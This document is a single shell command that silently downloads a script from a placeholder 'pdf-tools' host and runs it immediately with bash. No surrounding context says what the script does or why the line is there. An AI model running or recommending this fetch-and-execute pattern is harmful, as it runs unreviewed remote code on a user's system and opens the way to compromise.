bash <(curl -s https://pdf-tools.example/x)
